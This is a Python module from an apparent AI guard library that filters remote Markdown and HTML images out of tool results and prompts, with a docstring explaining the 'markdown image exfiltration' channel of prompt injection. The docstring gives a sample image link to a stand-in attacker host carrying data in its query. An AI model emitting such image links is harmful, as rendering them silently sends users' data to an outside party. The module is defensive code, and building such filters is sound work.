"""Remote images in results (TC-4): the zero-click exfiltration channel.

A chat client that renders Markdown or HTML fetches an image as soon as it shows it, so
``![x](https://attacker.example/p.png?d=<data>)`` in a tool result, a prompt or a resource
sends that data out without anyone clicking (the "markdown image exfiltration" of prompt
injection). ``ImageFilter`` replaces such an image, Markdown (``_markdown_images``) or HTML
(``_html_images``), with a visible marker keeping its host and alt text:
``[image removed: attacker.example; alt: chart]``. Which images go is the ``ImageMode``:

* ``remove-with-data`` (the default): a remote image whose URL carries data
  (``_image_urls``: a query, a fragment, an encoded-looking segment, a collector host...).
  A fixed URL of plain words can only tell its host that the text was shown, like any
  image on a web page; removing those too would blank every fetched README for little;
* ``remove``: every remote image;
* ``keep``: none (the filter is off).

An image whose host is in ``hosts`` (``example.com`` exactly, ``*.example.com`` any
subdomain of it) stays in either mode. Links (``[x](url)``, ``<https://...>``) stay: they
need a click.

The caller runs the filter after invisible characters are stripped and secrets masked (both
can make an image: ``!<U+200B>[`` and a masked ``!<key>(...)`` become ``![``), on text that
``might_hold_image``; text without "!" or "<" costs two ``memchr`` calls. A replacement never
forms a new image (a marker after ``!`` gets a space; a marker is balanced brackets); the
result is read again all the same, and text still changing after ``PASSES`` readings has
every ``![`` and image tag broken (``! [``, ``< img``). So has a string whose reading
stopped at its limit (``_image_urls.MAX_WORK``): the work per string is bounded, and
what was not read cannot render as an image.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Final, Literal, TypeAlias

from bastion.guard._html_images import TAG, TAG_START, html_removals
from bastion.guard._image_urls import Removal, Source, shown_host
from bastion.guard._markdown_images import markdown_removals

__all__ = ["ImageFilter", "ImageMode", "might_hold_image"]

ImageMode: TypeAlias = Literal["remove-with-data", "remove", "keep"]

PASSES: Final = 2  # a second reading only confirms that the markers made no image
MAX_ALT: Final = 100  # characters of alt text a marker keeps
_ALT_NOISE: Final = re.compile(r"[\[\]()<>!\\`&]+")
_BANG: Final = re.compile(r"!\[")  # faster than ``"![" in text`` (a 2-character find)


def might_hold_image(text: str) -> bool:
    """Whether ``text`` can hold a Markdown or HTML image at all. ``in`` with one character
    is a ``memchr``; text holding neither "!" nor "<" costs nothing more."""
    return ("!" in text and _BANG.search(text) is not None) or (
        "<" in text and TAG.search(text) is not None
    )


class ImageFilter:
    """One configured image filter; safe to share."""

    def __init__(self, mode: ImageMode = "remove-with-data", hosts: Iterable[str] = ()) -> None:
        if mode == "keep":
            raise ValueError("an ImageFilter that keeps every image is no filter")
        self._every_remote = mode == "remove"
        names = {host.lower().rstrip(".") for host in hosts}
        self._hosts = frozenset(name for name in names if not name.startswith("*."))
        self._suffixes = tuple(name[1:] for name in names if name.startswith("*."))

    def neutralise(self, text: str) -> tuple[str, int]:
        """``text`` with the images to remove replaced by markers, and how many there were
        (or, when the text is past reading, every image broken, and how many)."""
        removed = 0
        for _ in range(PASSES):
            markdown = markdown_removals(text, self._removes)
            tags = html_removals(text, self._removes) if markdown.complete else markdown
            if not tags.complete:
                break
            found = markdown.removals + tags.removals
            if not found:
                return text, removed
            text = _replaced(text, found)
            removed += len(found)
            if not might_hold_image(text):
                return text, removed
        text, broken = _broken(text)
        return text, removed + broken

    def _removes(self, source: Source) -> bool:
        if not source.remote or source.host in self._hosts:
            return False
        if any(source.host.endswith(suffix) for suffix in self._suffixes):
            return False
        return self._every_remote or source.carries_data


def _replaced(text: str, removals: list[Removal]) -> str:
    """``text`` with each removal's span replaced by its marker; a span inside another (an
    image in an image's alt text) goes with the outer one."""
    removals.sort(key=lambda removal: (removal.start, -removal.end))
    parts: list[str] = []
    at = 0
    for removal in removals:
        if removal.start < at:
            at = max(at, removal.end)
            continue
        parts.append(text[at : removal.start])
        # After a marker or at the start there is no "!"; "!" + marker + "(url)" would be
        # an image again.
        before = text[removal.start - 1] if removal.start > at else ""
        parts.append((" " if before == "!" else "") + _marker(removal))
        at = removal.end
    parts.append(text[at:])
    return "".join(parts)


def _broken(text: str) -> tuple[str, int]:
    """``text`` with every ``![`` and image tag broken (``! [``, ``< img``), and how many."""
    count = text.count("![")
    text, tags = TAG_START.subn("< ", text.replace("![", "! ["))
    return text, count + tags


def _marker(removal: Removal) -> str:
    host = shown_host(removal.host)
    alt = " ".join(_ALT_NOISE.sub(" ", removal.alt).split())
    if len(alt) > MAX_ALT:
        alt = alt[: MAX_ALT - 1] + "…"
    return f"[image removed: {host}; alt: {alt}]" if alt else f"[image removed: {host}]"
